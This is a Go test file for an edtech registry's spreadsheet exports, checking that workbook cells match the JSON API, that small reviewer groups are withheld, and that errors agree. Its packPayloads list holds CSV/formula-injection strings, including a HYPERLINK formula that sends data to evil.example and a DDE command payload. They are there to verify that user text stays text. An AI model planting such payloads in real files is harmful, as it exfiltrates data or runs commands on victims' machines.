package http

import (
	"fmt"
	"math"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/edtech-registry/registry/internal/registry"
	"github.com/edtech-registry/registry/internal/xlsx"
	"github.com/edtech-registry/registry/internal/xlsx/xlsxtest"
)

// packPayloads are texts a spreadsheet would run as formulas if a
// workbook wrote them as formulas or without the text format.
var packPayloads = []string{
	`=HYPERLINK("https://evil.example/?x="&A1,"click")`, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1",
	`=cmd|' /C calc'!A0`,
}

// packEnv is a registry with three products whose names, vendors and
// descriptions are injection payloads, reviewed with payloads in every
// summary and comment: "seller" (six reviews; two say it sells data),
// "good" (three reviews, top marks) and "few" (two reviews, both say it
// sells data: a provisional flag). Threshold 3.
type packEnv struct {
	*env
	seller, good, few string
}

func newPackEnv(t *testing.T) *packEnv {
	t.Helper()
	e := newEnv(t, moderationOff, withThreshold(3))
	pe := &packEnv{env: e}
	create := func(i int) string {
		body := productBody(fmt.Sprintf("Product %d", i))
		body["name"], body["vendor"], body["description"] = packPayloads[i], packPayloads[(i+1)%len(packPayloads)], packPayloads[(i+2)%len(packPayloads)]
		body["dataProcessed"] = []string{"contact", "academic", "biometric"}
		var p productJSON
		e.must(t, 201, request{Method: "POST", Path: "/api/v1/products", Token: e.tokens[registry.RoleOfficer], Body: body}).json(t, &p)
		return p.ID
	}
	pe.seller, pe.good, pe.few = create(0), create(3), create(5)
	n := 0
	review := func(pid, role string, score int, over map[string]int) {
		body := e.scoredBody(role, score, over)
		body["summary"] = packPayloads[n%len(packPayloads)]
		as := answers(body)
		as[n%len(as)]["comment"] = packPayloads[(n+1)%len(packPayloads)]
		as[7]["comment"] = packPayloads[(n+2)%len(packPayloads)] // privacy.data-sale
		n++
		e.submit(t, pid, e.reviewerToken(t), body)
	}
	// Three reviews are public at once (fewer than the threshold are
	// public before each); the next three with the release the sixth
	// completes (docs/anonymity.md).
	review(pe.seller, "teacher", 3, map[string]int{"privacy.data-sale": 0})
	review(pe.seller, "teacher", 3, map[string]int{"privacy.data-sale": 1})
	review(pe.seller, "teacher", 2, nil)
	review(pe.seller, "leader", 4, nil)
	review(pe.seller, "specialist", 1, nil)
	review(pe.seller, "specialist", 3, map[string]int{"pedagogy.accuracy": 0})
	for range 3 {
		review(pe.good, "teacher", 4, nil)
	}
	review(pe.few, "teacher", 2, map[string]int{"privacy.data-sale": 0})
	review(pe.few, "teacher", 2, map[string]int{"privacy.data-sale": 0})
	return pe
}

// download fetches a workbook and checks its download headers.
func (e *env) download(t testing.TB, path, filename string) []byte {
	t.Helper()
	r := e.must(t, 200, request{Method: "GET", Path: path})
	if ct := r.Header.Get("Content-Type"); ct != xlsx.ContentType {
		t.Errorf("Content-Type = %q", ct)
	}
	want := `attachment; filename="` + filename + "-" + time.Now().UTC().Format("2006-01-02") + `.xlsx"`
	if cd := r.Header.Get("Content-Disposition"); cd != want {
		t.Errorf("Content-Disposition = %q, want %q", cd, want)
	}
	return r.Body
}

// expectRow checks a workbook row against the values the JSON API gives:
// a string is the text as written, a number the same number (to the 15
// significant digits a spreadsheet keeps), nil an empty cell.
func expectRow(t *testing.T, where string, got []string, want []any) {
	t.Helper()
	for i, w := range want {
		g := ""
		if i < len(got) {
			g = got[i]
		}
		var ok bool
		switch w := w.(type) {
		case nil:
			ok = g == ""
		case string:
			ok = g == w
		case int:
			ok = g == strconv.Itoa(w)
		case float64:
			f, err := strconv.ParseFloat(g, 64)
			ok = err == nil && math.Abs(f-w) <= 1e-13*math.Max(1, math.Abs(w))
		case *float64:
			if w == nil {
				ok = g == ""
			} else {
				f, err := strconv.ParseFloat(g, 64)
				ok = err == nil && math.Abs(f-*w) <= 1e-13*math.Max(1, math.Abs(*w))
			}
		default:
			t.Fatalf("expectRow: %T", w)
		}
		if !ok {
			t.Errorf("%s, column %d: the workbook has %q, the JSON API %v", where, i+1, g, show(w))
		}
	}
	for i := len(want); i < len(got); i++ {
		if got[i] != "" {
			t.Errorf("%s, column %d: unexpected %q", where, i+1, got[i])
		}
	}
}

func show(v any) any {
	if p, ok := v.(*float64); ok && p != nil {
		return *p
	}
	return v
}

func orNil(cond bool, v any) any {
	if cond {
		return v
	}
	return nil
}

const fewerThan3 = "fewer than 3 reviewers"

// dimensionTitles maps the default rubric's dimension ids to titles.
func (e *env) dimensionTitles() map[string]string {
	out := map[string]string{}
	for _, d := range e.rubric.Dimensions {
		out[d.ID] = d.Title
	}
	return out
}

// expectComments checks a Comments sheet against each product's public
// listing.
func (e *env) expectComments(t *testing.T, rows [][]string, products [][2]string) {
	t.Helper()
	titles := map[string]string{}
	for _, c := range e.rubric.Criteria() {
		titles[c.ID] = c.Title
	}
	want := [][]any{}
	for _, p := range products {
		listing := e.published(t, p[0])
		if len(listing) == 0 {
			want = append(want, []any{p[1], p[0], nil, nil, nil, "note", nil, nil, "No public entries yet."})
		}
		for _, entry := range listing {
			want = append(want, []any{p[1], p[0], entry.ID, entry.Month, entry.Recommendation, "summary", nil, nil, entry.Summary})
			for _, c := range entry.Comments {
				want = append(want, []any{p[1], p[0], entry.ID, entry.Month, entry.Recommendation, "comment", c.Criterion, titles[c.Criterion], c.Comment})
			}
		}
	}
	if len(rows) != len(want)+1 {
		t.Fatalf("Comments has %d rows, want %d", len(rows)-1, len(want))
	}
	for i, w := range want {
		expectRow(t, fmt.Sprintf("Comments row %d", i+2), rows[i+1], w)
	}
}

// TestComparisonPackMatchesJSON downloads the comparison pack and the JSON
// comparison for the same request and walks both: every cell of Summary,
// Chart, Criteria, Asks and Voices holds the JSON API's figure (Voices:
// each product's JSON assessment's breakdowns), Comments the public
// listing; user text is text.
func TestComparisonPackMatchesJSON(t *testing.T) {
	t.Parallel()
	pe := newPackEnv(t)
	query := "?products=" + pe.seller + "," + pe.good + "," + pe.few
	var cmp comparisonJSON
	pe.must(t, 200, request{Method: "GET", Path: "/api/v1/compare" + query}).json(t, &cmp)
	data := pe.download(t, "/api/v1/compare.xlsx"+query, "comparison")
	wb := xlsxtest.Read(t, data)
	dims := pe.dimensionTitles()

	if got := wb.Sheets(); !slices.Equal(got, xlsx.ComparisonSheets) {
		t.Fatalf("sheets = %q", got)
	}
	t.Run("TextStaysText", func(t *testing.T) { wb.CheckText(t) })
	t.Run("Properties", func(t *testing.T) {
		p := wb.Properties(t)
		if p.Title == "" || !strings.HasPrefix(p.Creator, "Educator AI Edtech registry ") || p.Created == "" {
			t.Errorf("properties = %+v", p)
		}
	})
	t.Run("Summary", func(t *testing.T) {
		rows := wb.Rows(t, "Summary")
		if len(rows) != len(cmp.Products)+1 {
			t.Fatalf("%d rows", len(rows))
		}
		for i, p := range cmp.Products {
			want := []any{p.Name, p.Vendor, p.Reviews, p.Overall.Risk, p.Overall.Score}
			for _, d := range p.Dimensions {
				want = append(want, d.Score, d.Risk)
			}
			want = append(want, len(p.Flags), p.ProductID)
			expectRow(t, "Summary "+p.ProductID, rows[i+1], want)
		}
		if !wb.Frozen(t, "Summary") || len(wb.Tables(t, "Summary")) != 1 || len(wb.ConditionalFormats(t, "Summary")) < 10 {
			t.Errorf("Summary: frozen %v, tables %q, conditional formats %v", wb.Frozen(t, "Summary"), wb.Tables(t, "Summary"), wb.ConditionalFormats(t, "Summary"))
		}
	})
	t.Run("Chart", func(t *testing.T) {
		rows := wb.Rows(t, "Chart")
		for i, p := range cmp.Products {
			want := []any{p.Name}
			for _, d := range p.Dimensions {
				want = append(want, d.Score)
			}
			expectRow(t, "Chart "+p.ProductID, rows[i+1], want)
		}
		if c := wb.Charts(t); len(c) != 1 || c[0].Kind != "radarChart" || c[0].Series != 3 || c[0].Title == "" || c[0].AltText == "" {
			t.Errorf("charts = %+v", c)
		}
	})
	t.Run("Criteria", func(t *testing.T) {
		rows := wb.Rows(t, "Criteria")
		if len(rows) != len(cmp.Criteria)+1 {
			t.Fatalf("%d rows", len(rows))
		}
		// Marks from the products' JSON assessments.
		marks := map[string]map[string]string{}
		for _, p := range cmp.Products {
			var a assessmentJSON
			pe.must(t, 200, request{Method: "GET", Path: "/api/v1/products/" + p.ProductID + "/assessment"}).json(t, &a)
			marks[p.ProductID] = map[string]string{}
			for _, c := range a.Criteria {
				var m []string
				if c.Flagged {
					mark := "red flag hit"
					for _, f := range p.Flags {
						if f.Criterion == c.ID && f.Provisional {
							mark += " (provisional)"
						}
					}
					m = append(m, mark)
				}
				if c.Contested {
					m = append(m, "contested")
				}
				marks[p.ProductID][c.ID] = strings.Join(m, "; ")
			}
		}
		for i, c := range cmp.Criteria {
			want := []any{dims[c.Dimension], c.ID, c.Title}
			for _, v := range c.Values {
				want = append(want, v.Mean, v.N, orNil(marks[v.ProductID][c.ID] != "", marks[v.ProductID][c.ID]))
			}
			expectRow(t, "Criteria "+c.ID, rows[i+1], want)
		}
	})
	t.Run("Asks", func(t *testing.T) {
		rows := wb.Rows(t, "Asks")
		r := 1
		type across struct {
			products, provisional []string
			severity              string
		}
		asks := map[string]*across{}
		for _, p := range cmp.Products {
			for _, f := range p.Flags {
				prov := "no"
				if f.Provisional {
					prov = "yes"
				}
				expectRow(t, fmt.Sprintf("Asks row %d", r+1), rows[r], []any{p.Name, f.Title, f.Severity, f.Share, prov, f.Ask, dims[f.Dimension], p.ProductID})
				r++
				a := asks[f.Ask]
				if a == nil {
					a = &across{severity: f.Severity}
					asks[f.Ask] = a
				}
				a.products = append(a.products, p.Name)
				if f.Provisional {
					a.provisional = append(a.provisional, p.Name)
				}
			}
		}
		if r != 3 {
			t.Fatalf("%d flag rows, want 2 (seller's and few's data sale)", r-1)
		}
		if rows[r+1][0] != "The asks across products, most severe first" || rows[r+2][0] != "Products" {
			t.Fatalf("rows after the flags = %q", rows[r:])
		}
		got := rows[r+3:]
		if len(got) != len(asks) {
			t.Fatalf("%d asks across products, want %d", len(got), len(asks))
		}
		for i, row := range got {
			a := asks[row[5]]
			if a == nil {
				t.Fatalf("unknown ask %q", row[5])
			}
			expectRow(t, fmt.Sprintf("ask across products %d", i+1), row, []any{strings.Join(a.products, "; "), row[1], a.severity,
				len(a.products), orNil(len(a.provisional) > 0, strings.Join(a.provisional, "; ")), row[5]})
		}
	})
	t.Run("Voices", func(t *testing.T) {
		rows := wb.Rows(t, "Voices")
		r := 1
		for _, p := range cmp.Products {
			var a assessmentJSON
			pe.must(t, 200, request{Method: "GET", Path: "/api/v1/products/" + p.ProductID + "/assessment"}).json(t, &a)
			for _, kind := range registry.GroupKinds {
				for _, b := range a.Breakdowns[kind] {
					want := []any{p.Name, p.ProductID, kind, b.Key}
					if b.Suppressed {
						want = append(want, fewerThan3)
					} else {
						want = append(want, b.Reviews)
						for _, d := range b.Dimensions {
							want = append(want, d.Score, d.Risk)
						}
					}
					expectRow(t, fmt.Sprintf("Voices %s %s", p.ProductID, b.Key), rows[r], want)
					r++
				}
			}
		}
		if r != len(rows) {
			t.Errorf("Voices has %d rows, want %d", len(rows)-1, r-1)
		}
	})
	t.Run("Comments", func(t *testing.T) {
		var products [][2]string
		for _, p := range cmp.Products {
			products = append(products, [2]string{p.ProductID, p.Name})
		}
		pe.expectComments(t, wb.Rows(t, "Comments"), products)
	})
	t.Run("Method", func(t *testing.T) {
		facts := map[string]string{}
		for _, row := range wb.Rows(t, "Method") {
			if len(row) > 1 {
				facts[row[0]] = row[1]
			}
		}
		if facts["Rubric"] != cmp.RubricID || facts["Rubric version"] != strconv.Itoa(cmp.RubricVersion) ||
			facts["Rubric hash (SHA-256 of its canonical form)"] != pe.rubric.Hash || facts["Anonymity threshold (reviewers)"] != "3" ||
			facts["Reviews left out (written under other rubric versions)"] != strconv.Itoa(cmp.LeftOut.OtherVersions) ||
			facts["Registry version"] == "" || facts["Filter"] != "none: all reviewers" {
			t.Errorf("Method = %v", facts)
		}
	})
	t.Run("LibreOffice", func(t *testing.T) {
		lo := xlsxtest.Convert(t, data, xlsx.ComparisonSheets...)
		for _, sheet := range []string{"Summary", "Criteria", "Voices", "Comments"} {
			want := wb.Rows(t, sheet)
			for r, row := range want {
				for c, w := range row {
					g := ""
					if r < len(lo[sheet]) && c < len(lo[sheet][r]) {
						g = lo[sheet][r][c]
					}
					wf, err1 := strconv.ParseFloat(w, 64)
					gf, err2 := strconv.ParseFloat(g, 64)
					if g != w && (err1 != nil || err2 != nil || math.Abs(wf-gf) > 1e-9*math.Max(1, math.Abs(wf))) {
						t.Errorf("%s row %d column %d: LibreOffice reads %q, the workbook holds %q", sheet, r+1, c+1, g, w)
					}
				}
			}
		}
	})
}

// TestComparisonPackFilteredAndErrors: a filter withholds a product's
// small group ("fewer than 3 reviewers", no numbers) exactly as the JSON
// comparison suppresses it, and the pack answers bad requests with the
// JSON comparison's errors.
func TestComparisonPackFilteredAndErrors(t *testing.T) {
	t.Parallel()
	pe := newPackEnv(t)
	ids := pe.seller + "," + pe.good + "," + pe.few
	t.Run("Filtered", func(t *testing.T) {
		query := "?products=" + ids + "&role=teacher"
		var cmp comparisonJSON
		pe.must(t, 200, request{Method: "GET", Path: "/api/v1/compare" + query}).json(t, &cmp)
		wb := xlsxtest.Read(t, pe.download(t, "/api/v1/compare.xlsx"+query, "comparison"))
		rows := wb.Rows(t, "Summary")
		suppressed := 0
		for i, p := range cmp.Products {
			if !p.Suppressed {
				want := []any{p.Name, p.Vendor, p.Reviews, p.Overall.Risk, p.Overall.Score}
				for _, d := range p.Dimensions {
					want = append(want, d.Score, d.Risk)
				}
				expectRow(t, "Summary "+p.ProductID, rows[i+1], append(want, len(p.Flags), p.ProductID))
				continue
			}
			suppressed++
			want := []any{p.Name, p.Vendor, fewerThan3, nil, nil}
			for range p.Dimensions {
				want = append(want, nil, nil)
			}
			expectRow(t, "withheld "+p.ProductID, rows[i+1], append(want, nil, p.ProductID))
		}
		if suppressed != 1 {
			t.Errorf("%d products withheld, want 1 (two teachers)", suppressed)
		}
		for _, row := range wb.Rows(t, "Voices")[1:] {
			if !strings.HasPrefix(row[4], "no breakdowns") {
				t.Errorf("a filtered pack has breakdowns: %q", row)
			}
		}
		facts := map[string]string{}
		for _, row := range wb.Rows(t, "Method") {
			if len(row) > 1 {
				facts[row[0]] = row[1]
			}
		}
		if facts["Filter"] != "role: teacher" {
			t.Errorf("Method filter = %q", facts["Filter"])
		}
	})
	for _, tc := range []struct {
		name, query string
		status      int
	}{
		{"OneProduct", "?products=" + pe.seller, 422},
		{"TwentyOne", "?products=" + strings.Repeat("a,", 20) + "b,c,d,e,f,g,h,i,j,k,l,m,n,o,p,q,r,s,t,u,v", 422},
		{"Unknown", "?products=" + pe.seller + ",nope,zilch", 404},
		{"TwoFilters", "?products=" + ids + "&role=teacher&phase=primary", 422},
		{"BadRole", "?products=" + ids + "&role=governor", 422},
		{"BadVersion", "?products=" + ids + "&rubricVersion=9", 422},
	} {
		t.Run(tc.name, func(t *testing.T) {
			js := pe.must(t, tc.status, request{Method: "GET", Path: "/api/v1/compare" + tc.query})
			wb := pe.must(t, tc.status, request{Method: "GET", Path: "/api/v1/compare.xlsx" + tc.query})
			jp, wp := js.problem(t), wb.problem(t)
			if jp.Detail != wp.Detail || !slices.Equal(js.fields(t), wb.fields(t)) {
				t.Errorf("the pack answers %+v, the JSON comparison %+v", wp, jp)
			}
		})
	}
}

// TestAssessmentWorkbookMatchesJSON downloads the assessment workbook and
// the JSON assessment for the same request and walks both.
func TestAssessmentWorkbookMatchesJSON(t *testing.T) {
	t.Parallel()
	pe := newPackEnv(t)
	var a assessmentJSON
	pe.must(t, 200, request{Method: "GET", Path: "/api/v1/products/" + pe.seller + "/assessment"}).json(t, &a)
	var prod productJSON
	pe.must(t, 200, request{Method: "GET", Path: "/api/v1/products/" + pe.seller}).json(t, &prod)
	data := pe.download(t, "/api/v1/products/"+pe.seller+"/assessment.xlsx", "assessment-"+pe.seller)
	wb := xlsxtest.Read(t, data)
	if got := wb.Sheets(); !slices.Equal(got, xlsx.AssessmentSheets) {
		t.Fatalf("sheets = %q", got)
	}
	t.Run("TextStaysText", func(t *testing.T) { wb.CheckText(t) })
	t.Run("Overview", func(t *testing.T) {
		rows := wb.Rows(t, "Overview")
		at := map[string][]string{}
		for _, row := range rows {
			if len(row) > 0 {
				at[row[0]] = row
			}
		}
		flags := 0
		for _, d := range a.Dimensions {
			flags += len(d.Flags)
		}
		for item, want := range map[string][]any{
			"Product": {"Product", prod.Name}, "Vendor": {"Vendor", prod.Vendor}, "Description": {"Description", prod.Description},
			"Reviews": {"Reviews", a.Reviews}, "Overall risk": {"Overall risk", a.Overall.Risk},
			"Overall score (for ranking)": {"Overall score (for ranking)", a.Overall.Score}, "Red flags hit": {"Red flags hit", flags},
			"Data processed": {"Data processed", strings.Join(prod.DataProcessed, ", ")},
		} {
			expectRow(t, "Overview "+item, at[item], want)
		}
		for _, d := range a.Dimensions {
			var contested any
			if d.Agreement != nil {
				contested = map[bool]string{true: "yes", false: "no"}[d.Contested]
			}
			expectRow(t, "Overview "+d.ID, at[d.Title], []any{d.Title, d.Score, d.Risk, d.Agreement, contested, len(d.Flags)})
		}
		if c := wb.Charts(t); len(c) != 1 || c[0].Kind != "barChart" || c[0].AltText == "" {
			t.Errorf("charts = %+v", c)
		}
	})
	t.Run("Criteria", func(t *testing.T) {
		rows := wb.Rows(t, "Criteria")
		for i, c := range pe.rubric.Criteria() {
			ca := a.Criteria[i]
			want := []any{rows[i+1][0], c.ID, c.Title, c.Question}
			for _, l := range c.Levels {
				want = append(want, l.Label+": "+l.Descriptor)
			}
			want = append(want, ca.N, ca.Mean, ca.SD)
			for _, k := range ca.Distribution {
				want = append(want, k)
			}
			want = append(want, ca.Unknown, ca.NA, ca.Agreement)
			if ca.Agreement != nil {
				want = append(want, map[bool]string{true: "yes", false: "no"}[ca.Contested])
			} else {
				want = append(want, nil)
			}
			if c.RedFlag != nil {
				hit := map[bool]string{true: "yes", false: "no"}[ca.Flagged]
				want = append(want, fmt.Sprintf("at or below %d (%s)", c.RedFlag.AtOrBelow, c.RedFlag.Severity), ca.RedFlagHits, hit)
			} else {
				want = append(want, nil, nil, nil)
			}
			expectRow(t, "Criteria "+c.ID, rows[i+1], append(want, c.Ask))
		}
	})
	t.Run("DPIA", func(t *testing.T) {
		rows := wb.Rows(t, "DPIA")
		h := slices.IndexFunc(rows, func(row []string) bool { return len(row) > 0 && row[0] == "Risk" })
		r := h + 1
		for _, d := range a.Dimensions {
			for _, f := range d.Flags {
				if rows[r][2] != f.Ask || rows[r][3] != "red flag" || !strings.HasPrefix(rows[r][1], f.Title+":") {
					t.Errorf("risk row %q, want the flag %+v", rows[r], f)
				}
				expectRow(t, "DPIA share", rows[r][4:5], []any{f.Share})
				r++
			}
		}
		for _, d := range a.Dimensions {
			if d.Risk == "high" || d.Risk == "critical" {
				if rows[r][3] != "dimension" || !strings.HasPrefix(rows[r][1], pe.dimensionTitles()[d.ID]+": rated "+d.Risk) {
					t.Errorf("risk row %q, want the dimension %s", rows[r], d.ID)
				}
				expectRow(t, "DPIA dimension score", rows[r][5:6], []any{d.Score})
				r++
			}
		}
		if len(rows)-r != 5 {
			t.Errorf("%d rows for the school's own risks, want 5", len(rows)-r)
		}
		lists := map[string][]string{}
		for _, v := range wb.Validations(t, "DPIA") {
			lists[v.Range[:1]] = v.List
		}
		for col, want := range map[string][]string{"G": {"remote", "possible", "probable"}, "H": {"minimal", "significant", "severe"},
			"I": {"low", "medium", "high"}, "K": {"low", "medium", "high"}} {
			if !slices.Equal(lists[col], want) {
				t.Errorf("DPIA column %s drop-down = %q, want %q", col, lists[col], want)
			}
		}
		decision := map[string]bool{}
		for _, v := range wb.Validations(t, "Decision") {
			decision[v.Type+":"+strings.Join(v.List, "|")] = true
		}
		if !decision["list:approve|approve with conditions|do not approve"] || !decision["date:"] {
			t.Errorf("Decision validations = %v", decision)
		}
	})
	t.Run("Comments", func(t *testing.T) {
		pe.expectComments(t, wb.Rows(t, "Comments"), [][2]string{{prod.ID, prod.Name}})
	})
	t.Run("LibreOffice", func(t *testing.T) {
		lo := xlsxtest.Convert(t, data, xlsx.AssessmentSheets...)
		for _, sheet := range []string{"Overview", "Criteria", "Comments"} {
			for r, row := range wb.Rows(t, sheet) {
				for c, w := range row {
					g := ""
					if r < len(lo[sheet]) && c < len(lo[sheet][r]) {
						g = lo[sheet][r][c]
					}
					wf, err1 := strconv.ParseFloat(w, 64)
					gf, err2 := strconv.ParseFloat(g, 64)
					if g != w && (err1 != nil || err2 != nil || math.Abs(wf-gf) > 1e-9*math.Max(1, math.Abs(wf))) {
						t.Errorf("%s row %d column %d: LibreOffice reads %q, the workbook holds %q", sheet, r+1, c+1, g, w)
					}
				}
			}
		}
	})
}

// TestAssessmentWorkbookFilteredAndErrors: a withheld group shows no
// numbers, and bad requests get the JSON assessment's errors.
func TestAssessmentWorkbookFilteredAndErrors(t *testing.T) {
	t.Parallel()
	pe := newPackEnv(t)
	t.Run("Withheld", func(t *testing.T) {
		var a assessmentJSON
		pe.must(t, 200, request{Method: "GET", Path: "/api/v1/products/" + pe.few + "/assessment?nation=wales"}).json(t, &a)
		if !a.Suppressed {
			t.Fatal("no reviewer in Wales, yet not suppressed")
		}
		wb := xlsxtest.Read(t, pe.download(t, "/api/v1/products/"+pe.few+"/assessment.xlsx?nation=wales", "assessment-"+pe.few))
		for _, sheet := range []string{"Overview", "Criteria"} {
			for r, row := range wb.Rows(t, sheet) {
				for c := range row {
					cell := string(rune('A'+c%26)) + strconv.Itoa(r+1)
					if c < 26 && wb.IsNumber(t, sheet, cell) {
						t.Errorf("%s!%s holds a number for a withheld group", sheet, cell)
					}
				}
			}
		}
		found := false
		for _, row := range wb.Rows(t, "Overview") {
			found = found || (len(row) > 1 && row[0] == "Reviews" && row[1] == fewerThan3)
		}
		if !found {
			t.Error("the Overview does not read \"fewer than 3 reviewers\"")
		}
	})
	for _, tc := range []struct {
		name, path string
		status     int
	}{
		{"UnknownProduct", "/api/v1/products/nope/assessment", 404},
		{"BadNation", "/api/v1/products/" + pe.seller + "/assessment?nation=" + url.QueryEscape("atlantis"), 422},
		{"TwoFilters", "/api/v1/products/" + pe.seller + "/assessment?role=teacher&nation=wales", 422},
	} {
		t.Run(tc.name, func(t *testing.T) {
			js := pe.must(t, tc.status, request{Method: "GET", Path: tc.path})
			wb := pe.must(t, tc.status, request{Method: "GET", Path: strings.Replace(tc.path, "/assessment", "/assessment.xlsx", 1)})
			if jp, wp := js.problem(t), wb.problem(t); jp.Detail != wp.Detail || !slices.Equal(js.fields(t), wb.fields(t)) {
				t.Errorf("the workbook route answers %+v, the JSON route %+v", wp, jp)
			}
		})
	}
}

// TestCommentsBeyondTheLimit: a product with more public entries than a
// workbook holds gets the most recent xlsx.MaxComments and a note.
func TestCommentsBeyondTheLimit(t *testing.T) {
	t.Parallel()
	e := newEnv(t, moderationOff, withThreshold(3))
	pid := e.createProduct(t, "Much Reviewed")
	for i := range xlsx.MaxComments + 1 {
		body := e.reviewBody(3)
		body["summary"] = fmt.Sprintf("review %d", i)
		e.submit(t, pid, e.reviewerToken(t), body)
	}
	listing := e.published(t, pid)
	wb := xlsxtest.Read(t, e.download(t, "/api/v1/products/"+pid+"/assessment.xlsx", "assessment-"+pid))
	rows := wb.Rows(t, "Comments")
	if len(rows) != xlsx.MaxComments+2 {
		t.Fatalf("Comments has %d rows, want a note and %d entries", len(rows)-1, xlsx.MaxComments)
	}
	if rows[1][5] != "note" || !regexp.MustCompile(`^These are the 200 most recent public entries; the product has more\.`).MatchString(rows[1][8]) {
		t.Errorf("note = %q", rows[1])
	}
	if len(listing) <= xlsx.MaxComments {
		t.Fatalf("the listing has %d entries, want more than %d", len(listing), xlsx.MaxComments)
	}
	for i, entry := range listing[:xlsx.MaxComments] {
		if rows[i+2][2] != entry.ID || rows[i+2][8] != entry.Summary {
			t.Fatalf("entry %d = %q, want %s %q (the listing's order)", i+1, rows[i+2], entry.ID, entry.Summary)
		}
	}
}

// TestPackSlots: the process makes at most cap(packSlots) workbooks at
// once; a download that cannot get a slot before its deadline is refused
// with 503, holding nothing, and downloads work again once slots are free.
// Not parallel: it holds every slot, and parallel tests start only after
// it has finished.
func TestPackSlots(t *testing.T) {
	e := newEnv(t, moderationOff, withThreshold(3))
	a, b := e.createProduct(t, "Slot One"), e.createProduct(t, "Slot Two")
	e.srv = New(Config{Store: e.store, Rubrics: e.rubrics, Logger: e.srv.log, RequestTimeout: 300 * time.Millisecond})
	for range cap(packSlots) {
		packSlots <- struct{}{}
	}
	release := func() {
		for len(packSlots) > 0 {
			<-packSlots
		}
	}
	defer release()
	for _, path := range []string{"/api/v1/compare.xlsx?products=" + a + "," + b, "/api/v1/products/" + a + "/assessment.xlsx"} {
		start := time.Now()
		if p := e.must(t, 503, request{Method: "GET", Path: path}).problem(t); !strings.Contains(p.Detail, "busy") {
			t.Errorf("%s: %+v", path, p)
		}
		if d := time.Since(start); d > 5*time.Second {
			t.Errorf("%s waited %v for a slot, beyond its deadline", path, d)
		}
	}
	release()
	e.download(t, "/api/v1/compare.xlsx?products="+a+","+b, "comparison")
	e.download(t, "/api/v1/products/"+a+"/assessment.xlsx", "assessment-"+a)
}
